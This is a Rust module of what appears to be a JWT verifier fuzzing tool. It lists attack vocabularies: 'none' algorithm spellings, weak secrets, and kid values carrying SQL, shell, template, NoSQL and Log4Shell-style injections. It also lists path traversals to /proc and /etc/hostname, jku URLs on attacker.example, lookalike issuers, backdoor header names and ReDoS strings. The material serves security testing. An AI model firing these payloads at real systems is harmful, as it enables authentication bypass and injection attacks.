//! The vocabulary: spellings and values that have fooled a JWT library, in every part of a token, and words harvested from a target.
//!
//! Values are raw JSON text, written verbatim. Deliberately absent: which of them belongs to which advisory; that is said in the
//! attack files. A word earns its place by being of a kind that lax code trips over, not by any one library.

use crate::{harvest::Harvest, step::Derivation, target::Trust};

/// `alg` values that might mean "not signed", or nothing at all.
pub const UNSIGNED: &[&str] = &[
    r#""none""#,
    r#""None""#,
    r#""NONE""#,
    r#""nOnE""#,
    r#""noNe""#,
    r#""none ""#,
    r#"" none""#,
    r#""none\n""#,
    r#""none\u0000""#,
    r#""none\u0000x""#,
    r#""\u006eone""#,
    r#""ｎｏｎｅ""#,
    r#""ⓝⓞⓝⓔ""#,
    r#""nоne""#,
    r#""none\u200b""#,
    r#""""#,
    r#"" ""#,
    r#""null""#,
    r#""undefined""#,
    r#""unsecured""#,
    "null",
    "false",
    "true",
    "0",
    "1",
    "[]",
    "{}",
    r#"["none"]"#,
    r#"{"name":"none"}"#,
    r#""no""#,
    r#""plain""#,
    r#""NULL""#,
    r#""None ""#,
    r#""\tNONE""#,
    "-1",
    r#""toString""#,
    r#""constructor""#,
    r#""__proto__""#,
];

/// `alg` values of other algorithms, known and unknown.
pub const ALGORITHMS: &[&str] = &[
    "HS256",
    "HS384",
    "HS512",
    "RS256",
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES384",
    "ES512",
    "ES256K",
    "EdDSA",
    "Ed25519",
    "Ed448",
    "HS1",
    "RS1",
    "MD5",
    "HMACMD5",
    "SHA256",
    "sha256",
    "HS2",
    "HS256/64",
    "A128KW",
    "dir",
    "RSA-OAEP",
    "RSA1_5",
    "PBES2-HS256+A128KW",
    "ECDH-ES",
    "A128GCM",
    "ML-DSA-44",
    "ESP256",
    "RSA",
    "EC",
    "HMAC",
    "unknown",
    "default",
    "auto",
    "*",
    "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    "1.2.840.113549.1.1.11",
];

/// `alg` values of JWE (RFC 7518 section 4.1).
pub const KEY_MANAGEMENT: &[&str] = &[
    "dir",
    "RSA-OAEP",
    "RSA-OAEP-256",
    "RSA1_5",
    "A128KW",
    "A256KW",
    "ECDH-ES",
    "ECDH-ES+A256KW",
    "A256GCMKW",
    "PBES2-HS256+A128KW",
];

/// `enc` values (RFC 7518 section 5.1).
pub const ENCRYPTION: &[&str] = &["A256GCM", "A128GCM", "A128CBC-HS256", "A256CBC-HS512", "none"];

/// `p2c` values (RFC 7518 section 4.8.1.2): more than anybody needs, and none.
pub const PASSWORD_COUNTS: &[&str] = &["2000000", "10000000", "2147483647", "0", "-1", "1e9", "\"1000000\""];

/// Claims that name a party or a tenant, and may be taken for `aud` or `iss`.
pub const IDENTITIES: &[&str] = &[
    "azp",
    "client_id",
    "tid",
    "tenant",
    "tenant_id",
    "appid",
    "org",
    "org_id",
    "realm",
    "resource",
    "audience",
    "issuer",
    "hd",
    "cid",
];

/// `typ` values of tokens that rightly bring a key along (RFC 9449, `OpenID4VCI`, `OpenID` Federation, RFC 9901).
pub const TYPES_WITH_KEYS: &[&str] = &[
    r#""dpop+jwt""#,
    r#""openid4vci-proof+jwt""#,
    r#""entity-statement+jwt""#,
    r#""kb+jwt""#,
    r#""oauth-client-attestation-pop+jwt""#,
];

/// Secrets that people choose.
pub const PASSWORDS: &[&str] = &[
    "secret",
    "password",
    "changeme",
    "",
    "key",
    "test",
    "jwt",
    "admin",
    "123456",
    "default",
    "supersecret",
    "your-256-bit-secret",
];

/// What is done to passwords in place of a key derivation.
pub const STRETCHED: &[Derivation] = &[
    Derivation::Sha256,
    Derivation::Sha256Hex,
    Derivation::Sha256Base64,
    Derivation::Md5Hex,
    Derivation::Sha1Hex,
    Derivation::Base64,
    Derivation::Sha512,
];

/// What may stand between two tokens where code takes more than one.
pub const SEPARATORS: &[&str] =
    &["\n", "\r\n", ",", ", ", " ", ";", "; ", "|", "\0", "~", "&", "\t", ".", "\r", "\u{b}", "\u{2028}", "#", "?", "/", ""];

/// A text to be repeated, and an end: patterns that backtrack need long for it.
pub const BOMBS: &[(&str, &str)] = &[
    ("aaaaaaaa", "!"),
    ("a-a.", "-"),
    ("00000000", "x"),
    ("        ", "x"),
    ("a/", "\u{0}"),
    ("((((", ""),
    ("@a", "@@"),
    ("\u{e9}", "\\n"),
];

/// `kid` values as raw JSON, with the keys that a look-up which goes astray may yield.
pub const KEY_IDS: &[(&str, &[&str])] = &[
    (r#""no-such-key""#, &["", "undefined", "null", "None", "nil", "false", "0", "[object Object]", "NaN", "\n", "\0"]),
    (r#""""#, &["", "undefined", "null"]),
    ("null", &["", "null", "undefined", "None"]),
    ("0", &["", "0"]),
    ("true", &["", "true", "1"]),
    ("[]", &["", "[]"]),
    ("{}", &["", "{}", "[object Object]"]),
    (r#"["key-1"]"#, &["", "key-1"]),
    (r#"{"$ne":null}"#, &["", "null"]),
    (r#"{"$gt":""}"#, &[""]),
    (r#""*""#, &["", "*"]),
    (r#""*)(uid=*""#, &["", "null"]),
    (r#""' or '1'='1""#, &["", "1"]),
    (r#""' || '1'=='1""#, &[""]),
    (r#""__proto__""#, &["[object Object]", "{}", ""]),
    (r#""constructor""#, &["function Object() { [native code] }", "Object", ""]),
    (r#""toString""#, &["function toString() { [native code] }", "toString", ""]),
    (r#""hasOwnProperty""#, &["function hasOwnProperty() { [native code] }", ""]),
    (r#""valueOf""#, &["function valueOf() { [native code] }", ""]),
    (r#""length""#, &["0", "1", "2"]),
    (r#""__class__""#, &["", "None"]),
    (r#""/dev/null""#, &[""]),
    (r#""../../../../../../dev/null""#, &[""]),
    (r#""..\\..\\..\\..\\NUL""#, &[""]),
    (r#""file:///dev/null""#, &[""]),
    (r#""..%2f..%2f..%2f..%2fdev%2fnull""#, &[""]),
    (r#""/proc/sys/kernel/randomize_va_space""#, &["2\n", "2", "1\n", "0\n"]),
    (r#""../../../../../../proc/sys/kernel/ostype""#, &["Linux\n", "Linux"]),
    (r#""/proc/sys/net/ipv4/ip_forward""#, &["0\n", "1\n"]),
    (r#""../public/robots.txt""#, &["User-agent: *\nDisallow:\n", "User-agent: *\nDisallow: /\n"]),
    (r#""key-1/../../../../dev/null""#, &[""]),
    (r#""/dev/null\u0000key-1""#, &[""]),
    (r#""key-1\u0000""#, &[""]),
    (r#""x' UNION SELECT 'gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet""#, &["gauntlet"]),
    (r#""x\" UNION SELECT \"gauntlet\"-- -""#, &["gauntlet"]),
    (r#""-1 UNION SELECT 1-- -""#, &["1"]),
    (r#""x'; SELECT 'gauntlet'; --""#, &["gauntlet"]),
    (r#""x' UNION SELECT NULL-- -""#, &["", "null"]),
    (r#""x' AND '1'='2""#, &[""]),
    (r#""|echo gauntlet""#, &["gauntlet\n", "gauntlet"]),
    (r#""; echo gauntlet""#, &["gauntlet\n", "gauntlet"]),
    (r#""$(echo gauntlet)""#, &["gauntlet", "gauntlet\n"]),
    (r#""`echo gauntlet`""#, &["gauntlet", "gauntlet\n"]),
    (r#""{{7*7}}""#, &["49"]),
    (r#""${7*7}""#, &["49"]),
    (r#""<%= 7*7 %>""#, &["49"]),
    (r#""gauntlet""#, &["gauntlet"]),
    (r#""key-2""#, &["", "key-2"]),
    (r#""KEY-1""#, &[""]),
    (r#""default""#, &["", "default"]),
    (r#""https://attacker.example/jwks.json""#, &[""]),
    (r#""data:,""#, &[""]),
    (r#""%""#, &["", "secret", "changeme", "test"]),
    (r#""_%""#, &["", "secret", "changeme", "test"]),
    (r#""x' OR 1=1-- -""#, &["", "secret", "changeme"]),
    (r#""x' UNION SELECT 'HS256','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','HS256'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'gauntlet','gauntlet','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 'x','HS256','gauntlet'-- -""#, &["gauntlet"]),
    (r#""x' UNION SELECT 1,'gauntlet'-- -""#, &["gauntlet"]),
    (r#""__doc__""#, &["None", ""]),
    (r#""__module__""#, &["__main__", "builtins"]),
    (r#""__name__""#, &["Settings", "Config", "Keys", "__main__"]),
    (r#""__dict__""#, &["{}"]),
    (r#""__hash__""#, &["None"]),
    (r#""prototype""#, &["[object Object]", ""]),
    (r#""name""#, &["", "Object", "Function"]),
    (r#""size""#, &["0", "1", "2"]),
    (r#""${jndi:ldap://127.0.0.1/x}""#, &[""]),
    (r#""key-1:gauntlet""#, &["gauntlet", "key-1", ""]),
    (r#""../../../../../../etc/hostname""#, &[""]),
    (r#""aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!""#, &[""]),
    (r#""a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-""#, &[""]),
    (r#""00000000000000000000000000000000000000000000x""#, &[""]),
];

/// `jku` and `x5u` values as raw JSON that need no host, with what they give to whoever fetches them and takes it for a secret.
pub const URL_SECRETS: &[(&str, &str)] = &[
    (r#""file:///dev/null""#, ""),
    (r#""/dev/null""#, ""),
    (r#""data:,""#, ""),
    (r#""data:,gauntlet""#, "gauntlet"),
    (r#""data:text/plain;base64,Z2F1bnRsZXQ=""#, "gauntlet"),
    (r#""file:///proc/sys/kernel/randomize_va_space""#, "2\n"),
    (r#""https://attacker.example/""#, ""),
];

/// Texts that lax code has used as a secret: defaults, placeholders, what "nothing" turns into, places where a key lies.
pub const SECRETS: &[&str] = &[
    "",
    "undefined",
    "null",
    "None",
    "nil",
    "NaN",
    "true",
    "false",
    "False",
    "0",
    "1",
    "[object Object]",
    "{}",
    "[]",
    "\n",
    "\0",
    " ",
    "secret",
    "password",
    "changeme",
    "change-me",
    "key",
    "jwt",
    "test",
    "admin",
    "your-256-bit-secret",
    "your_jwt_secret",
    "JWT_SECRET",
    "${JWT_SECRET}",
    "process.env.JWT_SECRET",
    "client_secret",
    "clientSecret",
    "supersecret",
    "default",
    "123456",
    "qwerty",
    "public",
    "public.pem",
    "./public.pem",
    "file://public.pem",
    "keys/public.pem",
    "/keys/public.pem",
    "/etc/keys/public.pem",
    "https://issuer.example/.well-known/jwks.json",
    "-----BEGIN PUBLIC KEY-----",
    "RS256",
    "HS256",
    "none",
    "key not found",
    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
];

/// Names of header members: registered ones, and such as lax code looks at.
pub const HEADERS: &[&str] = &[
    "alg",
    "typ",
    "kid",
    "cty",
    "crit",
    "jku",
    "jwk",
    "x5u",
    "x5c",
    "x5t",
    "x5t#S256",
    "b64",
    "enc",
    "zip",
    "epk",
    "apu",
    "apv",
    "iv",
    "tag",
    "p2s",
    "p2c",
    "url",
    "nonce",
    "iss",
    "sub",
    "aud",
    "exp",
    "nbf",
    "iat",
    "jti",
    "jwks",
    "keys",
    "key",
    "secret",
    "k",
    "verify",
    "verified",
    "signed",
    "trusted",
    "debug",
    "test",
    "skip",
    "skip_verify",
    "insecure",
    "bypass",
    "internal",
    "admin",
    "role",
    "ver",
    "version",
    "v",
    "x-debug",
    "Alg",
    "ALG",
    "algorithm",
    "\u{0}alg",
    "alg ",
    "",
    "__proto__",
    "constructor",
];

/// Names of claims: registered ones, and such as applications decide by.
pub const CLAIMS: &[&str] = &[
    "iss",
    "sub",
    "aud",
    "exp",
    "nbf",
    "iat",
    "jti",
    "auth_time",
    "azp",
    "client_id",
    "scope",
    "scp",
    "role",
    "roles",
    "groups",
    "admin",
    "is_admin",
    "permissions",
    "tid",
    "tenant",
    "sid",
    "nonce",
    "acr",
    "amr",
    "at_hash",
    "cnf",
    "act",
    "may_act",
    "events",
    "token_use",
    "typ",
    "alg",
    "kid",
    "email",
    "email_verified",
    "name",
    "username",
    "user_id",
    "uid",
    "ver",
    "Exp",
    "EXP",
    "expires",
    "exp ",
    "",
    "debug",
    "test",
    "internal",
    "verified",
    "skip",
    "__proto__",
    "constructor",
];

/// JSON values of every type, and those at the edges of types.
pub const VALUES: &[&str] = &[
    "null",
    "true",
    "false",
    "0",
    "1",
    "-1",
    "2",
    "-0",
    "0.5",
    "1e400",
    "-1e400",
    "1e308",
    "1e-400",
    "9007199254740993",
    "2147483648",
    "-2147483649",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "-9223372036854775809",
    "123456789012345678901234567890",
    r#""""#,
    r#"" ""#,
    r#""0""#,
    r#""1""#,
    r#""true""#,
    r#""false""#,
    r#""null""#,
    r#""none""#,
    r#""*""#,
    r#""admin""#,
    r#""\u0000""#,
    r#""\ud800""#,
    r#""\udc00\ud800""#,
    r#""\uFFFF""#,
    r#""é""#,
    "[]",
    "{}",
    "[null]",
    "[[]]",
    "[{}]",
    r#"[""]"#,
    r#"["*"]"#,
    "[true]",
    "[0]",
    r#"{"":""}"#,
    r#"{"a":1,"a":2}"#,
    "NaN",
    "Infinity",
    "undefined",
    "'x'",
    "0x10",
    "01",
    "1.",
    ".5",
    "+1",
    "1_000",
    "[1,]",
    "/*c*/1",
    "true false",
    "",
];

/// Times as raw JSON that a verifier must not take for a good `exp`, or may misread.
pub const TIMES: &[&str] = &[
    "1",
    "0",
    "-1",
    "1700000000",
    "1700000000.5",
    "1.7e9",
    "-4102444800",
    "-9223372036854775808",
    "1e3",
    "4102444800000",
    r#""4102444800""#,
    r#""1700000000""#,
    r#""1""#,
    r#""""#,
    r#""never""#,
    r#""2100-01-01T00:00:00Z""#,
    r#""Infinity""#,
    "null",
    "true",
    "false",
    "[]",
    "{}",
    "[4102444800]",
    r#"{"$numberLong":"4102444800"}"#,
    "1e400",
    "-1e400",
    "9223372036854775807",
    "18446744073709551616",
    "4102444800",
    "4000000000",
    "9999999999",
    r#""9999999999""#,
    "NaN",
    "1e-400",
    "-0",
    "2147483648",
    "0.1",
    "1e99999999",
    "-1e99999999",
    "1E+400",
];

/// `crit` values: extensions nobody knows, and shapes that RFC 7515 section 4.1.11 forbids.
pub const CRITICAL: &[&str] = &[
    r#"["x-unknown"]"#,
    r#"["exp"]"#,
    r#"["b64"]"#,
    r#"["alg"]"#,
    r#"["kid"]"#,
    "[]",
    r#""x-unknown""#,
    "{}",
    "null",
    "true",
    "[1]",
    "[null]",
    r#"[""]"#,
    r#"["x-unknown","x-unknown"]"#,
    r#"["http://example.com/ext"]"#,
    r#"["b64","x-unknown"]"#,
    r#"{"x-unknown":true}"#,
    "0",
    r#"["http"]"#,
    r#"["sigt","url"]"#,
    r#"["jwk"]"#,
    r#"["crit"]"#,
    r#"["cty","zip","typ"]"#,
    r#"["__proto__"]"#,
];

/// `typ` and `cty` values.
pub const TYPES: &[&str] = &[
    r#""at+jwt""#,
    r#""application/at+jwt""#,
    r#""JWE""#,
    r#""JOSE""#,
    r#""JOSE+JSON""#,
    r#""secevent+jwt""#,
    r#""dpop+jwt""#,
    r#""logout+jwt""#,
    r#""jwt""#,
    r#""application/jwt""#,
    r#""""#,
    "null",
    "0",
    "[]",
    r#"["JWT"]"#,
    r#""JWT ""#,
    r#""none""#,
    r#""SAML""#,
    r#""text/plain""#,
    r#""plain""#,
    r#""unsecured""#,
    r#""unsigned""#,
    r#""UNSECURED""#,
    r#""refresh+jwt""#,
    r#""id+jwt""#,
    r#""token-introspection+jwt""#,
    r#""kb+jwt""#,
    r#""vc+sd-jwt""#,
    r#""trust-mark+jwt""#,
    r#""entity-statement+jwt""#,
    r#""debug""#,
    r#""test""#,
];

/// Payloads that are no object of claims, or hardly.
pub const PAYLOADS: &[&str] = &[
    "",
    "{}",
    "null",
    "true",
    "0",
    "[]",
    "\"\"",
    "\"admin\"",
    "[{\"sub\":\"admin\"}]",
    " {\"sub\":\"admin\"}",
    "{\"sub\":\"admin\"}x",
    "{\"sub\":\"admin\"}\n",
    "{\"sub\":\"admin\"",
    "{\"sub\":\"admin\",}",
    "{'sub':'admin'}",
    "{sub:\"admin\"}",
    "{\"sub\":\"admin\"}{}",
    "\u{feff}{\"sub\":\"admin\"}",
    "{\"sub\":\"admin\"}\0",
    "{\"sub\":\"\u{0}\"}",
    "<xml/>",
    "sub=admin",
    "NaN",
];

/// Third segments that are no signature, verbatim.
pub const SIGNATURES: &[&str] = &[
    "",
    "null",
    "undefined",
    "none",
    "None",
    "nil",
    "false",
    "true",
    "0",
    "[]",
    "{}",
    "NaN",
    "=",
    "==",
    "-",
    "_",
    "A",
    "AA",
    "AAA",
    "AAAA",
    "!",
    "!!!!",
    "%",
    "%00",
    "\0",
    " ",
    "\n",
    "*",
    ".",
    "signature",
    "x",
    "AB",
    "A A",
    "e30",
    "bnVsbA",
    "AA==",
    "+/+/",
    "Ä",
    "😀",
    "AAAA\u{0}",
];

/// What may stand around or between the segments of a token.
pub const AFFIXES: &[&str] = &[
    " ", "\n", "\r\n", "\t", "\0", ".", "..", "=", "==", "%00", "%20", "%2e", "\"", "'", ",", ";", "#", "?", "/", "\\", "&", "+",
    "-", "_", "A", "AA", "x", ".x", "x.", ".AA", "AA.", ".e30", "e30.", ".e30.", "Bearer ", "bearer ", "JWT ", "Token ",
    "\u{feff}", "\u{200b}", "\u{a0}", "\u{0}x", "\u{1f}", "é", "😀", "}", "{", "~", "~~", "|", "\u{7f}", "\u{2028}",
];

/// Names under which code keeps a way around its own checks.
pub const BACK_DOORS: &[&str] = &[
    "debug",
    "x-debug",
    "test",
    "x-test",
    "skip",
    "skip_verify",
    "skip-verify",
    "noverify",
    "no_verify",
    "verify",
    "verified",
    "insecure",
    "unsafe",
    "bypass",
    "x-bypass",
    "internal",
    "x-internal",
    "admin",
    "is_admin",
    "root",
    "superuser",
    "su",
    "dev",
    "development",
    "mock",
    "dry_run",
    "trusted",
    "x-trusted",
    "signed",
    "valid",
    "legacy",
    "compat",
    "master",
    "override",
    "force",
    "allow",
    "sandbox",
    "staging",
    "preview",
    "impersonate",
    "service",
    "system",
    "backdoor",
    "magic",
    "unsigned",
    "nosig",
    "plain",
    "raw",
    "local",
    "localhost",
    "health",
    "ping",
    "probe",
    "monitor",
    "canary",
    "beta",
    "alpha",
    "v0",
    "old",
    "migration",
    "temp",
    "guest",
    "anonymous",
    "public",
    "demo",
    "sample",
];

/// Values by which a back door may ask to be opened.
pub const OPENERS: &[&str] =
    &["true", r#""true""#, "1", r#""1""#, "false", "null", r#""yes""#, r#""on""#, r#""""#, "{}", "0", r#""admin""#];

/// The vocabulary that a sampler draws from, with what was harvested from the target.
#[derive(Clone, Debug, Default)]
pub struct Words {
    /// Words that the target knows: names, texts.
    pub harvested: Vec<String>,
    /// Up to three of them that are written side by side.
    pub neighbours: Vec<Vec<String>>,
    /// Private keys in PEM that lie about in the target's files.
    pub private_keys: Vec<String>,
}

/// Neighbourhoods that a sampler deals from.
const NEIGHBOURHOODS: usize = 4_000;

impl Words {
    /// The built-in vocabulary and these words of the target's.
    #[must_use]
    pub fn with(harvested: impl Into<Harvest>) -> Self {
        let Harvest { words, passages, keys } = harvested.into();
        let three = |passage: &Vec<String>| {
            let windows = passage.windows(passage.len().min(3));
            windows.map(<[String]>::to_vec).collect::<Vec<_>>()
        };
        let mut neighbours: Vec<Vec<String>> = passages.iter().flat_map(three).collect();
        neighbours.truncate(NEIGHBOURHOODS);
        Self { harvested: words, neighbours, private_keys: keys }
    }

    /// Words that may open a back door: the target's own, else such as are often used.
    #[must_use]
    pub fn keys(&self) -> Vec<&str> {
        BACK_DOORS.iter().copied().chain(self.harvested.iter().map(String::as_str)).collect()
    }
}

/// `text` as a JSON string.
#[must_use]
pub fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a text is JSON")
}

/// The algorithms' own name, spelled as careless comparisons would take it.
#[must_use]
pub fn spellings(name: &str) -> Vec<String> {
    let (family, size) = name.split_at(2.min(name.len()));
    let texts = [
        name.to_lowercase(),
        name.to_uppercase(),
        format!("{family}-{size}"),
        format!("{family}_{size}"),
        format!("{family} {size}"),
        format!("{name} "),
        format!(" {name}"),
        format!("{name}\n"),
        format!("{name}\0"),
        format!("{name}\0x"),
        format!("{name}x"),
        format!("{name},none"),
        format!("{name}.none"),
        name[..name.len() - 1].to_owned(),
        format!("{}A{}", family.chars().next().unwrap_or_default(), size),
        format!("SHA{size}"),
        size.to_owned(),
        format!("{name}{name}"),
    ];
    let lists = [format!("[{}]", quoted(name)), format!("[\"none\",{}]", quoted(name)), format!("{{\"name\":{}}}", quoted(name))];
    texts.iter().filter(|text| *text != name).map(|text| quoted(text)).chain(lists).collect()
}

/// A configured text, spelled as comparisons in part, without case or after "normalising" would take it.
#[must_use]
pub fn lookalikes(own: &str) -> Vec<String> {
    let cut = |n: usize| own.chars().take(n).collect::<String>();
    let count = own.chars().count();
    let texts = [
        format!("{own}.attacker.example"),
        format!("{own}x"),
        format!("x{own}"),
        format!("{own}/"),
        format!("{own} "),
        format!(" {own}"),
        format!("{own}\n"),
        format!("{own}\0"),
        format!("{own}\0.attacker.example"),
        format!("https://attacker.example/?{own}"),
        format!("{own},https://attacker.example"),
        format!("{own} https://attacker.example"),
        format!("{own}@attacker.example"),
        format!("{own}?x=1"),
        format!("{own}#x"),
        own.to_uppercase(),
        own.replace("https:", "http:"),
        own.replace("https://", ""),
        own.replace('.', "x"),
        own.replace("example", "ex%61mple"),
        own.replace('e', "е"),
        cut(count.saturating_sub(1)),
        cut(count / 2),
        cut(8),
        cut(1),
        String::new(),
        "*".to_owned(),
        ".*".to_owned(),
        "https://attacker.example".to_owned(),
    ];
    let quote = quoted(own);
    let shapes = [
        format!("[{quote}]"),
        format!("[{quote},\"https://attacker.example\"]"),
        format!("[\"https://attacker.example\",{quote}]"),
        format!("[[{quote}]]"),
        format!("[{quote},0]"),
        format!("[null,{quote}]"),
        format!("{{{quote}:true}}"),
        format!("{{\"0\":{quote}}}"),
        format!("{{\"toString\":{quote}}}"),
        "[]".to_owned(),
        "null".to_owned(),
        "true".to_owned(),
        "0".to_owned(),
        "[\"*\"]".to_owned(),
        "[\"\"]".to_owned(),
        "{}".to_owned(),
    ];
    texts.iter().map(|t| quoted(t)).chain(shapes).collect()
}

/// Ids like the configured one, as JSON: numbers around its own, what is cut or folded, places in a list.
#[must_use]
pub fn near_kids(own: &str) -> Vec<String> {
    let stem = own.trim_end_matches(|c: char| c.is_ascii_digit());
    let number: i64 = own[stem.len()..].parse().unwrap_or(1);
    let mut texts: Vec<String> = [0, number - 1, number + 1, number + 9, -1].map(|n| format!("{stem}{n}")).into();
    texts.extend([
        format!("{stem}0{number}"),
        stem.to_owned(),
        format!("{own} "),
        format!("{own}\0"),
        format!("{own}\n"),
        format!("{own}x"),
        format!("./{own}"),
        format!("{own}/../{own}"),
        format!("{own}?x"),
        format!("{own}#x"),
        own.to_uppercase(),
        own.chars().rev().collect(),
        own.chars().take(1).collect(),
        "0".to_owned(),
        "-1".to_owned(),
        "1e9".to_owned(),
    ]);
    texts.retain(|text| text != own);
    texts.sort();
    texts.dedup();
    let shapes = ["0", "1", "-1", "1.5", "null", "true", "[]"].map(str::to_owned);
    texts.iter().map(|text| quoted(text)).chain(shapes).chain([format!("[{}]", quoted(own))]).collect()
}

/// What the trust names: texts that an attacker knows as well as the operator.
#[must_use]
pub fn known_texts(trust: &Trust) -> Vec<String> {
    [Some(trust.algorithm.name().to_owned()), trust.kid.clone(), trust.issuer.clone(), trust.audience.clone()]
        .into_iter()
        .flatten()
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_list_names_a_thing_twice() {
        for list in [
            UNSIGNED, ALGORITHMS, SECRETS, HEADERS, CLAIMS, VALUES, TIMES, CRITICAL, TYPES, PAYLOADS, SIGNATURES, AFFIXES,
            BACK_DOORS, OPENERS,
        ] {
            let mut seen = std::collections::HashSet::new();
            for word in list {
                assert!(seen.insert(word), "{word:?}");
            }
        }
    }

    #[test]
    fn a_lookalike_is_hardly_ever_the_text_itself() {
        let own = "https://issuer.example";
        assert!(!lookalikes(own).contains(&quoted(own)));
        assert!(!spellings("ES256K").contains(&quoted("ES256K")));
    }
}
